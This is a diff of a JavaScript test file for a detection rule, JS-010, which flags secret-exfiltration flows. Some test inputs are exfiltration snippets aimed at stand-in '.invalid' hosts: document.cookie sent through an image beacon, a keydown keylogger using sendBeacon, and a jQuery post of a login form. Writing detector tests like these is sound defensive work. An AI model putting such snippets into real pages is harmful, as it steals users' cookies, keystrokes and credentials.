@@ -29,6 +29,16 @@ describe('JS-010 secret-exfiltration-flow', () => {
     );
     expect(f).toHaveLength(1);
   });
+  it('follows cookies into an image beacon URL', async () => {
+    const f = await ruleFindings(
+      'JS-010',
+      "const i = new Image(); i.src = 'https://x.invalid/p?c=' + encodeURIComponent(document.cookie);",
+    );
+    expect(f).toHaveLength(1);
+    expect(f[0]!.severity).toBe('critical');
+    const plain = await ruleFindings('JS-010', "const i = new Image(); i.src = '/static/logo.png';");
+    expect(plain).toHaveLength(0);
+  });
   it('treats keystrokes as browser data', async () => {
     const code = `let keys = ''; document.addEventListener('keydown', e => { keys += e.key; });
       setInterval(() => navigator.sendBeacon('https://x.invalid/k', keys), 5000);`;
@@ -48,5 +58,17 @@ describe('JS-010 secret-exfiltration-flow', () => {
     const code = `const proxy = process.env.npm_config_proxy; fetch('https://registry.invalid/x', { agent: proxy });
       const t = process.env.GITHUB_TOKEN; console.log(t ? 'token set' : 'no token');`;
     expect(await ruleFindings('JS-010', code)).toHaveLength(0);
+  });
+});
+
+describe('JS-010 source precision', () => {
+  it('does not treat any object serialize() as form data', async () => {
+    const code =
+      "const u = new URLState(); u.href = serializer.serialize(u.parts); fetch('https://x.invalid/' + u.serialize());";
+    expect(await ruleFindings('JS-010', code)).toHaveLength(0);
+  });
+  it('keeps jQuery passed in as a parameter', async () => {
+    const code = "(function ($) { $.post('https://x.invalid/f', $('form#login').serialize()); })(jQuery);";
+    expect(await ruleFindings('JS-010', code)).toHaveLength(1);
   });
 });
